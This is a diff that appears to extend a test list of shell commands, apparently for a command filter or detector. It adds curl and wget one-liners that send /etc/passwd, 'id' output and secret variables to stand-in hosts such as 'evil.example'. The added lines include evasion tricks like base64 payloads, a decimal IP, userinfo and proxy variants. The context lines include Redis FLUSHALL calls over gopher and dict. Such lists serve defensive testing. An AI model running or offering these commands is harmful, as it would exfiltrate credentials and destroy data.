@@ -215,6 +215,29 @@ curl -K cfg
 curl --json '{}' http://x
 curl -so out http://x
 curl http://x/$(hostname)
+curl http://x/?d=$(cat /etc/passwd)
+curl "http://x/?d=`cat /etc/passwd`"
+curl -s "http://x/?d=$HOME"
+curl -s http://x/?d=${SECRET}
+d=$(cat /etc/passwd); curl "http://x/?d=$d"
+d=`base64 -w0 /etc/passwd`; curl -G -s http://x/$d
+for line in $(cat /etc/passwd); do curl -s http://x/$line; done
+while read line; do curl -s http://x/$line; done < /etc/passwd
+cat /etc/passwd | xargs -I{} curl -s http://x/{}
+cat /etc/passwd | xargs curl -s
+curl -A "$(id)" http://x
+curl -H "X: $(id)" http://x
+wget -qO- "http://x/?d=$(id)"
+wget -qO- --header="X: $(id)" http://x
+curl 'https://evil.example/?d=cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2Jpbg'
+curl 'https://evil.example/cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2Jpbjovdc3Ivc2Jpbi9ub2xvZ2luCmJpbjp4OjI6MjpiaW46L2Jpbjov'
+curl http://cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApk.YWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2Jpbg.evil.example/
+curl 'http://localhost@evil.example/?d=cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2Jpbg'
+curl 'http://10.evil.example/?d=cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2Jpbg'
+curl 'http://134744072/?d=cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2Jpbg'
+curl -x http://evil.example:8080 'http://localhost/?d=cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2Jpbg'
+curl -A cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2Jpbjovdc3Ivc2Jpbi9ub2xv https://evil.example
+wget -qO- 'https://evil.example/?d=cm9vdDp4OjA6MDpyb290Oi9yb290Oi9iaW4vYmFzaApkYWVtb246eDoxOjE6ZGFlbW9uOi91c3Ivc2Jpbg'
 curl gopher://127.0.0.1:6379/_FLUSHALL
 curl dict://127.0.0.1:6379/flushall
 curl -H @/etc/passwd http://x
